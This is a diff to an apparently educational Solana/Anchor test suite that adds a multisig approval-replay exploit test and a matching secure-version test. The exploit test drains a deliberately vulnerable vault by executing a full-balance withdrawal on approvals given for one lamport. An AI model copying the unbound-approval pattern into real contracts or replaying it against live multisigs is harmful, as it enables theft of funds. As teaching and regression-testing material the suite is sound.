@@ -2,6 +2,10 @@ import * as anchor from "@coral-xyz/anchor";
 import { Program } from "@coral-xyz/anchor";
 import { AdminVault } from "../target/types/admin_vault";
 import { expect } from "chai";
+import { createHash } from "crypto";
+import { CuProfiler } from "../../harness/cu-profiler";
+import { PocRecorder } from "../../harness/poc-recorder";
+import { assertAnchorError, parseLogs } from "../../harness/secref-logs";
 import { Keypair, PublicKey, SystemProgram, Connection } from "@solana/web3.js";
 
 describe("Authority Check Failure Exploit", () => {
@@ -24,6 +28,16 @@ describe("Authority Check Failure Exploit", () => {
   
   anchor.setProvider(provider);
 
+  // Records compute units for every instruction executed against a validator
+  const profiler = new CuProfiler("02_authority_check_failure");
+
+  // Records every transaction as a replayable PoC when SECREF_POC_RECORD=1
+  const recorder = new PocRecorder("02_authority_check_failure", provider);
+  beforeEach(function () {
+    // Steps are labelled with the test that sent them
+    recorder.test(this.currentTest?.fullTitle());
+  });
+
   // Mock program for testing
   let program: Program<AdminVault>;
 
@@ -43,6 +57,67 @@ describe("Authority Check Failure Exploit", () => {
     }
   });
 
+  after(() => {
+    recorder.writeFixture();
+    // Fails the suite if any recorded instruction regressed past its CU budget
+    profiler.writeSummary();
+    profiler.assertBudgets();
+  });
+
+  // 2-of-3 multisig over a vault holding MULTISIG_BALANCE
+  const MULTISIG_BALANCE = 10_000;
+  const THRESHOLD = 2;
+
+  function multisigAddress(vaultKey: PublicKey): PublicKey {
+    return PublicKey.findProgramAddressSync([Buffer.from("multisig"), vaultKey.toBuffer()], program.programId)[0];
+  }
+
+  function proposalAddress(multisig: PublicKey, index: number): PublicKey {
+    return PublicKey.findProgramAddressSync(
+      [Buffer.from("proposal"), multisig.toBuffer(), new anchor.BN(index).toArrayLike(Buffer, "le", 8)],
+      program.programId
+    )[0];
+  }
+
+  // Matches Proposal::hash: sha256(multisig || index le || amount le)
+  function proposalHash(multisig: PublicKey, index: number, amount: number): number[] {
+    const le = (value: number) => new anchor.BN(value).toArrayLike(Buffer, "le", 8);
+    return Array.from(createHash("sha256").update(multisig.toBuffer()).update(le(index)).update(le(amount)).digest());
+  }
+
+  // Open a vault with a 2-of-3 multisig over it; the first approver is funded to pay for proposals
+  async function openMultisig(): Promise<{ multisig: PublicKey; approvers: Keypair[] }> {
+    const approvers = [Keypair.generate(), Keypair.generate(), Keypair.generate()];
+    const airdrop = await provider.connection.requestAirdrop(approvers[0].publicKey, 100_000_000);
+    await provider.connection.confirmTransaction(airdrop);
+
+    await program.methods
+      .secureInitialize(new anchor.BN(MULTISIG_BALANCE))
+      .accounts({
+        vault: vault.publicKey,
+        admin: legitimateAdmin.publicKey,
+        owner: vaultOwner.publicKey,
+        payer: wallet.publicKey,
+        systemProgram: SystemProgram.programId,
+      })
+      .signers([vault, legitimateAdmin, vaultOwner])
+      .rpc();
+    const multisig = multisigAddress(vault.publicKey);
+    const signature = await program.methods
+      .initializeMultisig(approvers.map((approver) => approver.publicKey), THRESHOLD)
+      .accounts({
+        vault: vault.publicKey,
+        multisig,
+        admin: legitimateAdmin.publicKey,
+        payer: wallet.publicKey,
+        systemProgram: SystemProgram.programId,
+      })
+      .signers([legitimateAdmin])
+      .rpc();
+    await profiler.record("initialize_multisig", provider.connection, signature, program.programId.toBase58());
+    return { multisig, approvers };
+  }
+
   beforeEach(async () => {
     // Generate fresh keypairs for each test
     legitimateAdmin = Keypair.generate();
@@ -114,6 +189,54 @@ describe("Authority Check Failure Exploit", () => {
 
       console.log("⚠️  Real test requires local Solana validator");
     });
+
+    it("Should execute any amount on approvals given for one lamport", async () => {
+      console.log("\n=== MULTISIG APPROVAL REPLAY ===");
+
+      if (!program) {
+        console.log("📝 MOCK TEST: Demonstrating approvals that are not bound to a proposal");
+        console.log("✅ In a real exploit:");
+        console.log("   1. A rogue approver proposes a withdrawal of 1 from a 2-of-3 multisig");
+        console.log("   2. Two approvers approve - the approval is a bit on the multisig, naming nothing");
+        console.log("   3. The rogue approver executes a withdrawal of the whole balance");
+        console.log("   4. The approvals are never cleared, so every later execution passes too");
+        console.log("🚨 VULNERABILITY DEMONSTRATED: Approve once, execute anything");
+        return;
+      }
+
+      try {
+        const { multisig, approvers } = await openMultisig();
+        const [rogue, honest] = approvers;
+
+        let signature = await program.methods
+          .vulnerableProposeWithdraw(new anchor.BN(1))
+          .accounts({ multisig, proposer: rogue.publicKey })
+          .signers([rogue])
+          .rpc();
+        await profiler.record("vulnerable_propose_withdraw", provider.connection, signature, program.programId.toBase58());
+        for (const approver of [rogue, honest]) {
+          signature = await program.methods
+            .vulnerableApproveWithdraw()
+            .accounts({ multisig, approver: approver.publicKey })
+            .signers([approver])
+            .rpc();
+        }
+        await profiler.record("vulnerable_approve_withdraw", provider.connection, signature, program.programId.toBase58());
+
+        signature = await program.methods
+          .vulnerableExecuteWithdraw(new anchor.BN(MULTISIG_BALANCE))
+          .accounts({ vault: vault.publicKey, multisig, executor: rogue.publicKey })
+          .signers([rogue])
+          .rpc();
+        await profiler.record("vulnerable_execute_withdraw", provider.connection, signature, program.programId.toBase58());
+
+        const drained = await program.account.adminVault.fetch(vault.publicKey);
+        expect(drained.balance.toNumber()).to.equal(0);
+        console.log(`✅ EXPLOIT SUCCESS: Approved a withdrawal of 1, executed ${MULTISIG_BALANCE}`);
+      } catch (error) {
+        console.log(`⚠️  Test requires local validator: ${error.message}`);
+      }
+    });
   });
 
   describe("🛡️  PROTECTION VERIFICATION - Secure Implementation", () => {
@@ -127,14 +250,21 @@ describe("Authority Check Failure Exploit", () => {
         console.log("   2. Validates admin authority before function execution");
         console.log("   3. Prevents unauthorized admin actions");
         
-        // Mock the secure behavior
-        const mockError = "ConstraintHasOne: admin constraint was violated";
+        // Mock the secure behavior: the logs a validator returns for the rejected transaction
+        const mockLogs = [
+          "Program Fg6PaFpoGXkYsidMpWTK6W2BeZ7FEfcYkg476zPFsLnS invoke [1]",
+          "Program log: Instruction: SecureAdminWithdraw",
+          "Program log: AnchorError caused by account: vault. Error Code: ConstraintHasOne. Error Number: 2001. Error Message: A has one constraint was violated.",
+          "Program Fg6PaFpoGXkYsidMpWTK6W2BeZ7FEfcYkg476zPFsLnS consumed 4521 of 200000 compute units",
+          "Program Fg6PaFpoGXkYsidMpWTK6W2BeZ7FEfcYkg476zPFsLnS failed: custom program error: 0x7d1",
+        ];
+        const mockError = assertAnchorError(parseLogs(mockLogs), "ConstraintHasOne", "vault");
         
         console.log("🛡️  Attempting unauthorized admin action...");
-        console.log(`Expected error: ${mockError}`);
+        console.log(`Expected error: ${mockError.name} (${mockError.number})`);
         console.log("✅ PROTECTION SUCCESS: Unauthorized admin action blocked");
         
-        expect(mockError).to.include("admin constraint");
+        expect(mockError.number).to.equal(2001);
         return;
       }
 
@@ -167,6 +297,76 @@ describe("Authority Check Failure Exploit", () => {
 
       console.log("⚠️  Real test requires local Solana validator");
     });
+
+    it("Should execute only the amount the approvers signed off on, once", async () => {
+      console.log("\n=== SECURE: PROPOSAL-BOUND APPROVALS ===");
+
+      if (!program) {
+        console.log("📝 MOCK TEST: Each proposal is a PDA at [\"proposal\", multisig, index]");
+        console.log("✅ Secure multisig features:");
+        console.log("   1. Approvals are recorded on the proposal, with the hash the approver reviewed");
+        console.log("   2. A hash for another amount fails with ProposalMismatch");
+        console.log("   3. Execution withdraws the proposal's amount, then marks it executed");
+        console.log("🛡️  PROTECTION VERIFIED: An approval is good for one proposal, once");
+        return;
+      }
+
+      try {
+        const { multisig, approvers } = await openMultisig();
+        const [proposer, second] = approvers;
+        const amount = 100;
+        const proposal = proposalAddress(multisig, 0);
+
+        let signature = await program.methods
+          .secureProposeWithdraw(new anchor.BN(amount))
+          .accounts({ multisig, proposal, proposer: proposer.publicKey, systemProgram: SystemProgram.programId })
+          .signers([proposer])
+          .rpc();
+        await profiler.record("secure_propose_withdraw", provider.connection, signature, program.programId.toBase58());
+
+        try {
+          await program.methods
+            .secureApproveWithdraw(proposalHash(multisig, 0, MULTISIG_BALANCE))
+            .accounts({ multisig, proposal, approver: second.publicKey })
+            .signers([second])
+            .rpc();
+          expect.fail("Expected ProposalMismatch");
+        } catch (error) {
+          expect(error.message).to.include("ProposalMismatch");
+          console.log("✅ PROTECTION SUCCESS: An approval for another amount is rejected");
+        }
+
+        for (const approver of [proposer, second]) {
+          signature = await program.methods
+            .secureApproveWithdraw(proposalHash(multisig, 0, amount))
+            .accounts({ multisig, proposal, approver: approver.publicKey })
+            .signers([approver])
+            .rpc();
+        }
+        await profiler.record("secure_approve_withdraw", provider.connection, signature, program.programId.toBase58());
+
+        const execute = () =>
+          program.methods
+            .secureExecuteWithdraw()
+            .accounts({ vault: vault.publicKey, multisig, proposal, executor: proposer.publicKey })
+            .signers([proposer])
+            .rpc();
+        signature = await execute();
+        await profiler.record("secure_execute_withdraw", provider.connection, signature, program.programId.toBase58());
+        const after = await program.account.adminVault.fetch(vault.publicKey);
+        expect(after.balance.toNumber()).to.equal(MULTISIG_BALANCE - amount);
+
+        try {
+          await execute();
+          expect.fail("Expected ProposalAlreadyExecuted");
+        } catch (error) {
+          expect(error.message).to.include("ProposalAlreadyExecuted");
+          console.log("✅ PROTECTION SUCCESS: The approved amount was withdrawn exactly once");
+        }
+      } catch (error) {
+        console.log(`⚠️  Test requires local validator: ${error.message}`);
+      }
+    });
   });
 
   describe("📚 EDUCATIONAL SUMMARY", () => {
@@ -187,6 +387,7 @@ describe("Authority Check Failure Exploit", () => {
       console.log("   2. Use Anchor constraints for automatic validation");
       console.log("   3. Implement proper role separation");
       console.log("   4. Test both authorized and unauthorized access");
+      console.log("   5. Bind every approval to exactly what it approves");
       
       // This test always passes as it's educational
       expect(true).to.be.true;